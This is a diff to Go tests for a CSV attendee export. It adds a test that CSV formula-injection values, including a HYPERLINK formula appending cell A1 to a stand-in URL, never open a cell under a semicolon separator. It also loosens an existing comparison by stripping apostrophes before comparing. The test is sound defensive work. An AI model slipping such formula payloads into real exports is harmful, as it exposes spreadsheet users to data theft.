@@ -111,7 +111,7 @@ func TestEveryValueIsReadBackFromCSV(t *testing.T) {
 			}
 			// encoding/csv reads CRLF inside quotes as LF.
 			plain := strings.ReplaceAll(want[i], "\r\n", "\n")
-			if got != plain && got != "'"+plain {
+			if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(plain, "'", "") {
 				t.Errorf("%q came back as %q", want[i], got)
 			}
 		}
@@ -254,5 +254,23 @@ func TestAFolderIsNoFileAndWhatAKilledExportLeftIsRemoved(t *testing.T) {
 	}
 	if diff := cmp.Diff([]string{".lethe-456", ".lethe-notes", "list.csv"}, left); diff != "" {
 		t.Errorf("beside the list (-want +got)\n%s", diff)
+	}
+}
+
+// OWASP, "CSV Injection": "take care of the field separator (e.g. ',' or ';'), as attackers
+// could use this to start a new cell". Where the decimal sign is a comma, Excel separates by ;.
+func TestNoCellBeginsAFormulaWhereASemicolonSeparates(t *testing.T) {
+	var out bytes.Buffer
+	_, err := export.CSV(&out, export.Header{Purpose: attendees.Forum}, rows(export.Row{
+		ID: "1", Name: `Ada;=HYPERLINK("http://example.org/"&A1);Example`, Email: "ada@example.org", Affiliation: "Lab;=1+1;x",
+		Forums: []attendees.Personal{"Rivers", "=1+2"},
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, cell := range strings.Split(strings.Split(out.String(), "\r\n")[1], ";") {
+		if strings.ContainsAny(strings.TrimLeft(cell, " ")[:1], "=+-@") {
+			t.Errorf("opened with ; as separator, a cell begins a formula: %s\nthe line is %s", cell, strings.Split(out.String(), "\r\n")[1])
+		}
 	}
 }
